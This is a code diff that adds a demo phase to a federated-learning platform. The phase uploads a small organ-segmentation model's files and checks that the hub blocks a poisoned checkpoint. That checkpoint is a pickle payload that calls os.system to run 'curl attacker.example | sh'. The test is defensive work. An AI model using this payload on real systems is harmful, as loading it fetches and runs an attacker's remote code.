@@ -695,6 +695,99 @@ def _fetch_as_trainer(ctx: DemoContext, trust: DemoTrust, project_id: str) -> di
     return {"bytes": len(body), "mask_bytes": len(mask.content)}
 
 
+# -------------------------------------------------------------------------------------------- models
+
+_MODEL_FILES: dict[str, bytes] = {
+    "models.py": (
+        b'"""A small 3-D segmentation network for the synthetic chest CT organ."""\n\n'
+        b"import torch\n\n\n"
+        b"def get_model() -> torch.nn.Module:\n"
+        b"    return torch.nn.Sequential(\n"
+        b"        torch.nn.Conv3d(1, 8, 3, padding=1), torch.nn.ReLU(), torch.nn.Conv3d(8, 2, 1)\n"
+        b"    )\n"
+    ),
+    "client_app.py": (
+        b'"""What runs at each trust: one local epoch over the trust\'s images, then the loss."""\n\n'
+        b"import torch\n\n\n"
+        b"def train(model, batches, epochs=1, lr=1e-3):\n"
+        b"    optimiser = torch.optim.Adam(model.parameters(), lr=lr)\n"
+        b"    loss = torch.tensor(0.0)\n"
+        b"    for _ in range(epochs):\n"
+        b"        for image, mask in batches:\n"
+        b"            optimiser.zero_grad()\n"
+        b"            loss = torch.nn.functional.cross_entropy(model(image), mask)\n"
+        b"            loss.backward()\n"
+        b"            optimiser.step()\n"
+        b"    return float(loss)\n"
+    ),
+    "config.json": b'{"rounds": 3, "local_epochs": 1, "learning_rate": 0.001}\n',
+}
+# A checkpoint that would run a shell command when loaded (pickle opcodes: GLOBAL os.system, then call it).
+_POISONED_CHECKPOINT = b"cos\nsystem\n(S'curl attacker.example | sh'\ntR."
+
+
+def create_model(ctx: DemoContext) -> PhaseResult:
+    """A model under the approved project: its job type's required files uploaded and scanned; a poisoned
+    checkpoint blocked; a clean file downloaded back."""
+    client = ctx.require_client()
+    researcher = ctx.users[RESEARCHER]
+    project_id = ctx.project_id
+    if project_id is None:
+        raise DemoError("no project: the cohort phase did not run")
+    job_types = client.get_json("/api/job-types", token=researcher.token)
+    needed = next(t for t in job_types if (t["backend"], t["job_type"]) == ("FLOWER", "standard"))
+    model = client.call(
+        "POST",
+        f"/api/projects/{project_id}/models",
+        token=researcher.token,
+        json={"name": "Demo: organ segmentation", "description": "Created by `flip demo`."},
+        expect=(201,),
+    )
+    model_id = str(model["id"])
+    ctx.say(
+        researcher.role,
+        f"created model {model['name']!r} (Flower, FedAvg) training at "
+        + ", ".join(t["code"] for t in model["trusts"])
+        + "; the job type needs "
+        + ", ".join(f["name"] for f in needed["required_files"]),
+    )
+    uploaded: dict[str, str] = {}
+    for name, data in _MODEL_FILES.items():
+        file = client.call(
+            "PUT", f"/api/models/{model_id}/files/{name}", token=researcher.token, content=data, expect=(201,)
+        )
+        uploaded[name] = file["status"]
+        ctx.say("hub", f"{name}: quarantined, scanned, {file['status']} (sha256 {str(file['sha256'])[:12]}...)")
+    blocked = client.call(
+        "PUT",
+        f"/api/models/{model_id}/files/checkpoint.pt",
+        token=researcher.token,
+        content=_POISONED_CHECKPOINT,
+        expect=(422,),
+    )
+    ctx.say("hub", f"checkpoint.pt refused: {blocked['detail']}")
+    detail = client.call("GET", f"/api/models/{model_id}", token=researcher.token)
+    if detail["missing_files"]:
+        raise DemoError(f"the model still misses {detail['missing_files']}")
+    statuses = {f["name"]: f["status"] for f in detail["files"]}
+    if statuses.get("checkpoint.pt") != "BLOCKED":
+        raise DemoError(f"the poisoned checkpoint is {statuses.get('checkpoint.pt')}, expected BLOCKED")
+    clean = next(f for f in detail["files"] if f["name"] == "models.py")
+    body = _download(ctx, researcher.token, f"/api/models/{model_id}/files/{clean['id']}/content")
+    if hashlib.sha256(body).hexdigest() != clean["sha256"]:
+        raise DemoError("the downloaded models.py does not match its checksum")
+    ctx.say(researcher.role, "every required file is in and clean; models.py downloads back byte for byte")
+    return {"id": model_id, "files": statuses, "missing_files": detail["missing_files"]}
+
+
+def _download(ctx: DemoContext, token: str, path: str) -> bytes:
+    with httpx.Client(base_url=ctx.hub_url, timeout=30) as http:
+        response = http.get(path, headers={"Authorization": f"Bearer {token}"})
+    if response.status_code != 200:
+        raise DemoError(f"GET {path} answered {response.status_code}")
+    return response.content
+
+
 # -------------------------------------------------------------------------------------------- audit
 
 
@@ -717,5 +810,6 @@ PHASES: list[Phase] = [
     Phase("cohort", "Create a project and run its cohort query at every trust", run_cohort_query),
     Phase("project", "Stage, approve, and freeze the cohort at each approving trust", run_approvals),
     Phase("imaging", "Approve an imaging project; each trust imports its studies from its PACS", run_imaging),
+    Phase("models", "Create a model; upload and scan its files; a poisoned checkpoint is blocked", create_model),
     Phase("audit", "Verify the audit chain", verify_audit_chain),
 ]
